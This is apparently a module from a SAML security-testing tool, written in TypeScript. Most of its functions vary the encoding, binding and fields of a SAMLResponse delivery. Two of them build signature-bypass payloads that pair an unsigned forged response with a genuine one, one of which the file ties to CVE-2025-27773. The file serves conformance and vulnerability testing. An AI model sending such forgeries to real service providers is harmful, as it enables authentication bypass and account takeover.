/** The form that carries the message: encoding, repetition, absence of fields. */

import { deflateRawSync } from 'node:zlib';
import type { FormPost, Mutation } from '../protocol/types.ts';
import { unsignedVictimTwin } from './victim.ts';

/** Rewrites the SAMLResponse field. */
function parameter(rewrite: (value: string) => string): (post: FormPost) => FormPost {
  return (post) => ({
    ...post,
    fields: post.fields.map(([name, value]) => [name, name === 'SAMLResponse' ? rewrite(value) : value]),
  });
}

/** The parameter is the message as plain XML: RFC 2045 section 6.8 lets decoders skip strays, so strays are no test. */
export function notBase64(): Mutation {
  return { delivery: parameter((value) => Buffer.from(value, 'base64').toString('utf8')) };
}

/** Base64 in lines of 76 characters, as RFC 2045 writes it. */
export function wrappedBase64(): Mutation {
  return { delivery: parameter((value) => value.replace(/(.{76})(?=.)/g, '$1\r\n')) };
}

/** The RelayState field is sent with this text, or not at all. */
export function relayStateField(value: string | null): Mutation {
  return {
    delivery: (post) => {
      const others = post.fields.filter(([name]) => name !== 'RelayState');
      return { ...post, fields: value === null ? others : [...others, ['RelayState', value]] };
    },
  };
}

/** The SAMLResponse field is sent with this text, or not at all. */
export function responseParameter(value: string | null): Mutation {
  return {
    delivery: (post) => ({
      ...post,
      fields: post.fields.flatMap(([name, own]): [string, string][] => {
        if (name !== 'SAMLResponse') return [[name, own]];
        return value === null ? [] : [[name, value]];
      }),
    }),
  };
}

const deflated = parameter((value) => deflateRawSync(Buffer.from(value, 'base64')).toString('base64'));

/** The form holds the message deflated, as the Redirect binding would; HTTP-POST knows no such encoding (Bindings 3.5.4). */
export function deflatedPost(): Mutation['delivery'] {
  return (post) => deflated(post);
}

/** The message is a link with everything in the query, deflated as the Redirect binding wants it (Bindings 3.4.4.1). */
export function byRedirect(): Mutation {
  return { delivery: (post) => ({ ...deflated(post), method: 'get' }) };
}

/** The ACS is opened as a page, without any message. */
export function emptyGet(): Mutation {
  return { delivery: (post) => ({ ...post, method: 'get', fields: [] }) };
}

/** The parameter stands twice in the form: an unsigned forgery first, the genuine message last. */
export function parameterTwice(): Mutation {
  return {
    delivery: (post, facts) => {
      const forged = Buffer.from(unsignedVictimTwin(facts), 'utf8').toString('base64');
      return { ...post, fields: [['SAMLResponse', forged], ...post.fields] };
    },
  };
}

/**
 * A link with an unsigned forgery and a genuine message beside it, which the detached signature covers (CVE-2025-27773).
 * @param name the parameter of the forgery: of the same name as the genuine one, or of the other
 */
export function besideSignedMessage(name: 'SAMLRequest' | 'SAMLResponse'): Mutation {
  return {
    delivery: (post, facts) => {
      const forged = deflateRawSync(unsignedVictimTwin(facts)).toString('base64');
      const genuine = [...new URLSearchParams(facts.idp.signedLogout())];
      return { ...post, method: 'get', fields: [[name, forged], ...genuine] };
    },
  };
}

/** The form holds a field that no binding names. */
export function extraField(): Mutation {
  return { delivery: (post) => ({ ...post, fields: [...post.fields, ['samlproof', 'x']] }) };
}
